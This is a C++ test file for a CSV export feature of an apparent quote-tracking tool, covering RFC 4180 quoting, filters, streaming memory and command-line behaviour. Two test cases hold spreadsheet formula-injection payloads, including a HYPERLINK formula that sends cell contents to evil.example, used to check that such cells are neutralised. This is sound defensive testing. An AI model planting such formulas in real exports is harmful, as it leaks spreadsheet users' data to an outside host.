// csv_export.h: RFC 4180 writing read back by an independent parser,
// formula neutralisation, the BOM, each filter of quote_filter.h narrowing
// the rows, time order, stopping, bounded memory on many rows (a real
// PostgreSQL), and `quotetrail export` writing a file only when it succeeds.
#include <catch2/catch.hpp>
#include <fstream>
#include <iostream>
#include <map>
#include <string>
#include <sys/stat.h>
#include <vector>

#include "csv_export.h"
#include "database.h"
#include "store.h"
#include "support/cli_run.h"
#include "support/pg_harness.h"
#include "support/store_fixture.h"

using namespace quotetrail;
using quotetrail::testing::QueryOne;

namespace {

using Record = std::vector<std::string>;

// RFC 4180 reader, written from the RFC (not from the writer): records end
// with CRLF; a field is either plain (no comma, quote, CR, LF) or enclosed in
// double quotes with "" for a quote. Anything else fails the test.
std::vector<Record> ParseCsv(const std::string& s) {
  std::vector<Record> out;
  size_t i = 0;
  while (i < s.size()) {
    Record rec;
    for (;;) {
      std::string field;
      if (i < s.size() && s[i] == '"') {
        ++i;
        for (;;) {
          REQUIRE(i < s.size());  // an unclosed quoted field
          if (s[i] == '"') {
            if (i + 1 < s.size() && s[i + 1] == '"') {
              field += '"';
              i += 2;
              continue;
            }
            ++i;
            break;
          }
          field += s[i++];
        }
      } else {
        while (i < s.size() && s[i] != ',' && s[i] != '\r' && s[i] != '\n') {
          REQUIRE(s[i] != '"');  // a quote inside a plain field
          field += s[i++];
        }
      }
      rec.push_back(field);
      REQUIRE(i < s.size());  // the last record must end with CRLF too
      if (s[i] == ',') {
        ++i;
        continue;
      }
      REQUIRE(s.compare(i, 2, "\r\n") == 0);  // a bare LF or CR ends no record
      i += 2;
      break;
    }
    out.push_back(std::move(rec));
  }
  return out;
}

ExtractedQuote Quote(const std::string& text, const std::string& speaker, const std::string& kind,
                     std::vector<std::string> via = {}) {
  return testing::MakeQuote(text, speaker, kind, 0.85, std::move(via));
}

DocumentRecord Doc(const std::string& name, const std::string& published, const std::string& outlet,
                   const std::string& lang, std::vector<ExtractedQuote> quotes) {
  return testing::MakeDoc(name, published, outlet, lang, std::move(quotes));
}

void Write(const std::string& url, std::vector<DocumentRecord> docs) {
  for (const auto& f : testing::WriteDocs(url, std::move(docs)).failures) FAIL_CHECK(f);
}

struct Exported {
  ExportStats stats;
  std::string text;
  size_t largest_chunk = 0;
};

Exported Export(const std::string& url, const QuoteFilter& filter = {}, CsvOptions options = {}) {
  auto conn = Connect(url);
  REQUIRE(conn.ok());
  Exported e;
  auto r = ExportOccurrences(**conn, filter, options, [&](std::string_view chunk) {
    e.text += chunk;
    e.largest_chunk = std::max(e.largest_chunk, chunk.size());
    return true;
  });
  if (!r.ok()) FAIL("ExportOccurrences: " << r.status().ToString());
  e.stats = *r;
  return e;
}

// The rows after the header, as column name -> value.
std::vector<std::map<std::string, std::string>> Rows(const std::string& csv) {
  std::vector<Record> records = ParseCsv(csv);
  REQUIRE_FALSE(records.empty());
  const Record& header = records[0];
  std::vector<std::map<std::string, std::string>> out;
  for (size_t r = 1; r < records.size(); ++r) {
    REQUIRE(records[r].size() == header.size());
    std::map<std::string, std::string> row;
    for (size_t c = 0; c < header.size(); ++c) row[header[c]] = records[r][c];
    out.push_back(std::move(row));
  }
  return out;
}

QuoteFilter Filter(const std::map<std::string, std::string>& params) {
  auto f = ParseQuoteFilter([&](std::string_view name) -> std::optional<std::string> {
    auto it = params.find(std::string(name));
    if (it == params.end()) return std::nullopt;
    return it->second;
  });
  REQUIRE(f.ok());
  return *f;
}

long Kilobytes(const std::string& field) {
  std::ifstream in("/proc/self/status");
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind(field + ":", 0) == 0) return std::stol(line.substr(field.size() + 1));
  }
  FAIL("no " << field << " in /proc/self/status");
  return 0;
}

const char* kLong =
    "prête à soutenir et encourager de manière inconditionnelle toutes les décisions prises par "
    "les dirigeants russes";

// Six occurrences in five documents, varied on every filtered dimension.
std::string Fixture() {
  const std::string url = testing::RequireFreshDatabase();
  Write(url,
        {Doc("kcna", "2024-06-19T06:00:00Z", "KCNA", "fr",
             {Quote(kLong, "Kim Jong-un", "full")}),
         Doc("monde", "2024-06-20T08:00:00Z", "Le Monde", "fr-FR",
             {Quote("Prête à soutenir, et encourager de manière inconditionnelle, toutes les décisions",
                    "Kim Jong Un", "partial", {"Korean Central News Agency"}),
              Quote("C'est à la RPDC de décider des modalités d'application", "Sergueï Lavrov",
                    "full", {"TASS", "AFP"})}),
         Doc("times", "2024-06-21T12:00:00Z", "The Times", "en",
             {Quote("we will not let anyone question the security of our two peoples",
                    "Olaf Scholz", "indirect")}),
         Doc("late", "2024-06-22T23:30:00Z", "Le Monde", "fr",
             {Quote("la coopération militaire entre nos deux pays va encore se renforcer", "Sergei Lavrov",
                    "partial", {"AFP"})}),
         Doc("next", "2024-06-23T00:30:00Z", "Ouest Matin", "fr",
             {Quote("nous verrons bien ce que l'avenir nous réserve dans cette affaire", "Emmanuel Macron",
                    "full")})});
  return url;
}

}  // namespace

TEST_CASE("csv: fields are quoted by RFC 4180 and read back unchanged", "[csv]") {
  const std::vector<std::string> fields = {
      "plain",  "with, comma",   "with \"quotes\"", "line\nbreak", "cr\rlf\r\n", "",
      "“curly” « guillemets » 北京", "trailing space ", "\"",          ",",          "a\"\"b"};
  std::string out;
  std::vector<std::string_view> views(fields.begin(), fields.end());
  AppendCsvRecord(out, views, /*raw=*/false);
  AppendCsvRecord(out, {"second", "row"}, false);
  std::vector<Record> back = ParseCsv(out);
  REQUIRE(back.size() == 2);
  CHECK(back[0] == Record(fields.begin(), fields.end()));
  CHECK(back[1] == Record{"second", "row"});
  // Only fields that need it are quoted.
  std::string one;
  AppendCsvField(one, "plain", false);
  CHECK(one == "plain");
  one.clear();
  AppendCsvField(one, "say \"hi\", then", false);
  CHECK(one == "\"say \"\"hi\"\", then\"");
}

TEST_CASE("csv: cells a spreadsheet would run as formulas get an apostrophe unless raw", "[csv]") {
  const std::vector<std::string> risky = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
                                          "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx"};
  for (const std::string& cell : risky) {
    INFO(cell);
    CHECK(LooksLikeFormula(cell));
    std::string safe, raw;
    AppendCsvRecord(safe, {cell}, false);
    AppendCsvRecord(raw, {cell}, true);
    CHECK(ParseCsv(safe)[0][0] == "'" + cell);
    CHECK(ParseCsv(raw)[0][0] == cell);
  }
  for (const std::string cell : {"plain", "1+1", "a=b", " =x", "'quoted", ""}) {
    INFO(cell);
    CHECK_FALSE(LooksLikeFormula(cell));
    std::string out;
    AppendCsvRecord(out, {cell}, false);
    CHECK(ParseCsv(out)[0][0] == cell);
  }
}

TEST_CASE("export: one row per occurrence in time order with the header and vias and first seen",
          "[csv][export]") {
  const std::string url = Fixture();
  Exported e = Export(url);
  CHECK(e.stats.complete);
  CHECK(e.stats.rows == 6);
  CHECK(e.text.rfind(std::string(kExportHeader) + "\r\n", 0) == 0);
  auto rows = Rows(e.text);
  REQUIRE(rows.size() == 6);
  std::vector<std::string> published;
  for (const auto& r : rows) published.push_back(r.at("published_at"));
  CHECK(published == std::vector<std::string>{"2024-06-19T06:00:00Z", "2024-06-20T08:00:00Z",
                                              "2024-06-20T08:00:00Z", "2024-06-21T12:00:00Z",
                                              "2024-06-22T23:30:00Z", "2024-06-23T00:30:00Z"});
  // The truncated copy in Le Monde: its cluster first appeared in KCNA the day before.
  const auto& copy = rows[1];
  CHECK(copy.at("quote").rfind("Prête à soutenir, et encourager", 0) == 0);
  CHECK(copy.at("speaker") == "Kim Jong-un");
  CHECK(copy.at("via") == "KCNA");
  CHECK(copy.at("outlet") == "Le Monde");
  CHECK(copy.at("title") == "Article monde");
  CHECK(copy.at("url") == "https://example.org/monde");
  CHECK(copy.at("first_seen") == "2024-06-19T06:00:00Z");
  CHECK(copy.at("kind") == "partial");
  CHECK(copy.at("confidence") == "0.85");
  CHECK(copy.at("cluster_id") == rows[0].at("cluster_id"));
  CHECK(rows[2].at("via") == "Tass; AFP");  // the relays in the article's order
  CHECK(rows[2].at("cluster_id") != rows[0].at("cluster_id"));
  CHECK(QueryOne(url, "SELECT count(*) FROM occurrences") == "6");
}

TEST_CASE("export: each filter narrows the rows to the occurrences it selects", "[csv][export]") {
  const std::string url = Fixture();
  auto count = [&](const std::map<std::string, std::string>& params) {
    return Rows(Export(url, Filter(params)).text).size();
  };
  CHECK(count({}) == 6);
  CHECK(count({{"q", "pret a soutenir et encourager"}}) == 2);  // both occurrences of the cluster
  CHECK(count({{"q", "RPDC"}}) == 1);
  CHECK(count({{"speaker", "Kim Jong Un"}}) == 2);
  CHECK(count({{"speaker", "lavrov"}}) == 2);  // "Sergueï" and "Sergei" are one speaker
  CHECK(count({{"agency", "AFP"}}) == 2);
  CHECK(count({{"agency", "tass"}}) == 1);
  CHECK(count({{"agency", "Korean Central News Agency"}}) == 1);  // an alias of KCNA
  const std::string afp = QueryOne(url, "SELECT id FROM agencies WHERE name = 'AFP'");
  CHECK(count({{"agency", afp}}) == 2);
  CHECK(count({{"outlet", "monde"}}) == 3);
  CHECK(count({{"lang", "fr"}}) == 5);  // fr-FR included
  CHECK(count({{"lang", "fr-FR"}}) == 2);
  CHECK(count({{"lang", "en"}}) == 1);
  CHECK(count({{"kind", "full"}}) == 3);
  CHECK(count({{"kind", "indirect"}}) == 1);
  CHECK(count({{"from", "2024-06-21"}}) == 3);
  CHECK(count({{"to", "2024-06-22"}}) == 5);  // a date alone includes that day
  CHECK(count({{"from", "2024-06-20T08:00:00Z"}, {"to", "2024-06-20T08:00:01Z"}}) == 2);
  // All filters hold for one and the same occurrence.
  CHECK(count({{"speaker", "Lavrov"}, {"agency", "TASS"}, {"kind", "full"}}) == 1);
  CHECK(count({{"speaker", "Kim"}, {"agency", "AFP"}}) == 0);
  CHECK(count({{"outlet", "Le Monde"}, {"lang", "fr"}, {"from", "2024-06-21"}}) == 1);
}

TEST_CASE("export: quotes that look like formulas are neutralised unless raw and a BOM on request",
          "[csv][export]") {
  const std::string url = testing::RequireFreshDatabase();
  const std::vector<std::string> risky = {"=HYPERLINK(\"http://evil.example\",\"clic\")", "+1",
                                          "-2", "@SUM(A1:A9)", "\tx", "\rx",
                                          "a \"quoted\", comma\r\nand line"};
  std::vector<DocumentRecord> docs;
  int n = 0;
  for (const std::string& q : risky) {
    std::string name = "doc" + std::to_string(n);
    docs.push_back(Doc(name, "2024-06-19T0" + std::to_string(n++) + ":00:00Z", "Le Monde", "fr",
                       {Quote(q, "Kim Jong-un", "full")}));
  }
  Write(url, std::move(docs));
  auto quotes = [](const std::string& csv) {
    std::vector<std::string> out;
    for (const auto& r : Rows(csv)) out.push_back(r.at("quote"));
    return out;
  };
  Exported safe = Export(url);
  std::vector<std::string> expected;
  for (size_t i = 0; i + 1 < risky.size(); ++i) expected.push_back("'" + risky[i]);
  expected.push_back(risky.back());
  CHECK(quotes(safe.text) == expected);
  CHECK(safe.text.rfind("quote,", 0) == 0);  // no BOM by default

  Exported raw = Export(url, {}, CsvOptions{true, false});
  CHECK(quotes(raw.text) == risky);

  Exported bom = Export(url, {}, CsvOptions{false, true});
  REQUIRE(bom.text.rfind(std::string(kUtf8Bom), 0) == 0);
  CHECK(bom.text.substr(3) == safe.text);
}

TEST_CASE("export: a sink that returns false stops the export", "[csv][export]") {
  const std::string url = Fixture();
  auto conn = Connect(url);
  REQUIRE(conn.ok());
  int calls = 0;
  auto r = ExportOccurrences(**conn, {}, {}, [&](std::string_view) { return ++calls < 1; });
  REQUIRE(r.ok());
  CHECK_FALSE(r->complete);
  CHECK(calls == 1);
  CHECK(r->chunks == 1);
}

TEST_CASE("export: 50000 rows stream in bounded chunks with bounded memory", "[csv][export][memory]") {
  const std::string url = testing::RequireFreshDatabase();
  constexpr int kRows = 50000;
  constexpr int kQuoteBytes = 1000;  // about 55 MB of CSV in all
  {
    auto conn = Connect(url);
    REQUIRE(conn.ok());
    pqxx::work tx(**conn);
    tx.exec_params(R"sql(
INSERT INTO documents (id, title, published_at, language, text_sha256, body)
SELECT i, 'Document ' || i, timestamptz '2024-01-01' + i * interval '1 minute', 'fr',
       encode(sha256(convert_to('doc' || i, 'UTF8')), 'hex'), 'corps'
FROM generate_series(1, $1::int) AS i)sql",
                   kRows / 10);
    tx.exec_params(R"sql(
INSERT INTO quotes (id, canonical_text, norm_text, language, occurrence_count, first_published_at)
SELECT i, 'citation ' || i, 'citation ' || i, 'fr', 10, timestamptz '2024-01-01' + i * interval '1 minute'
FROM generate_series(1, $1::int) AS i)sql",
                   kRows / 10);
    tx.exec_params(R"sql(
INSERT INTO occurrences (quote_id, document_id, start_cp, end_cp, text, kind, speaker_name, confidence)
SELECT 1 + i % $1::int, 1 + i % $1::int, i, i + 10,
       '=' || repeat('mot, "cité" ', $2::int / 12) || i, 'full', 'Porte-parole', 0.5
FROM generate_series(1, $3::int) AS i)sql",
                   kRows / 10, kQuoteBytes, kRows);
    tx.commit();
  }
  auto conn = Connect(url);
  REQUIRE(conn.ok());
  const long rss_before = Kilobytes("VmRSS");
  int64_t bytes = 0, chunks = 0;
  size_t largest = 0;
  std::string tail;  // the last chunk, to check the records end whole
  auto r = ExportOccurrences(**conn, {}, {}, [&](std::string_view chunk) {
    ++chunks;
    bytes += static_cast<int64_t>(chunk.size());
    largest = std::max(largest, chunk.size());
    tail.assign(chunk.substr(chunk.size() - std::min<size_t>(chunk.size(), 2)));
    return true;
  });
  const long peak_after = Kilobytes("VmHWM");
  REQUIRE(r.ok());
  CHECK(r->complete);
  CHECK(r->rows == kRows);
  CHECK(r->bytes == bytes);
  CHECK(bytes > int64_t{kRows} * kQuoteBytes);
  CHECK(tail == "\r\n");
  // Chunks: many, each at most one chunk plus one record.
  CHECK(chunks == r->chunks);
  CHECK(chunks > bytes / static_cast<int64_t>(kExportChunkBytes) / 2);
  CHECK(largest <= kExportChunkBytes + 2 * kQuoteBytes);
  // Memory: the peak (VmHWM) grew by far less than the output (about 55 MB).
  const long growth_kb = peak_after - rss_before;
  std::cerr << "csv_export_test: " << r->rows << " rows, " << bytes / 1024 << " kB in " << chunks
            << " chunks (largest " << largest << " B); RSS before " << rss_before
            << " kB, peak after " << peak_after << " kB\n";
  INFO("RSS before " << rss_before << " kB, peak after " << peak_after << " kB, output "
                     << bytes / 1024 << " kB");
  CHECK(growth_kb < 16 * 1024);
}

TEST_CASE("quotetrail export: to stdout or a file renamed into place and bad filters are usage errors",
          "[csv][export][cli]") {
  const std::string url = Fixture();
  const std::string db = "--db '" + url + "' ";
  testing::Run out = testing::Quotetrail(db + "export --csv --speaker Lavrov");
  CHECK(out.exit_code == 0);
  CHECK(Rows(out.out).size() == 2);
  CHECK(out.err.find("2 rows") != std::string::npos);

  testing::TempDir dir;
  const std::string file = dir.path() + "/out.csv";
  testing::Run to_file = testing::Quotetrail(db + "export --bom --kind full -o " + file);
  CHECK(to_file.exit_code == 0);
  CHECK(to_file.out.empty());
  CHECK(to_file.err.find("3 rows") != std::string::npos);
  const std::string written = testing::ReadWholeFile(file);
  REQUIRE(written.rfind(std::string(kUtf8Bom), 0) == 0);
  CHECK(Rows(written.substr(3)).size() == 3);
  struct stat st;
  CHECK(stat((file + ".tmp").c_str(), &st) != 0);

  testing::Run bad = testing::Quotetrail(db + "export --kind quote -o " + dir.path() + "/bad.csv");
  CHECK(bad.exit_code == 2);
  CHECK(bad.err.find("--kind") != std::string::npos);
  CHECK(stat((dir.path() + "/bad.csv").c_str(), &st) != 0);

  testing::Run no_words = testing::Quotetrail(db + "export --q '« … »'");
  CHECK(no_words.exit_code == 2);
  CHECK(no_words.err.find("--q: has no letter or digit") != std::string::npos);
  CHECK(no_words.out.empty());

  testing::Run nowhere = testing::Quotetrail(db + "export -o " + dir.path() + "/missing/x.csv");
  CHECK(nowhere.exit_code == 1);
  CHECK(nowhere.err.find("missing/x.csv.tmp") != std::string::npos);

  // A database that cannot be reached: an error, and no file at all.
  testing::Run down = testing::Quotetrail("--db 'postgresql:///no_such_db?host=/nonexistent' export -o " +
                                          dir.path() + "/down.csv");
  CHECK(down.exit_code == 1);
  CHECK(stat((dir.path() + "/down.csv").c_str(), &st) != 0);
  CHECK(stat((dir.path() + "/down.csv.tmp").c_str(), &st) != 0);
}
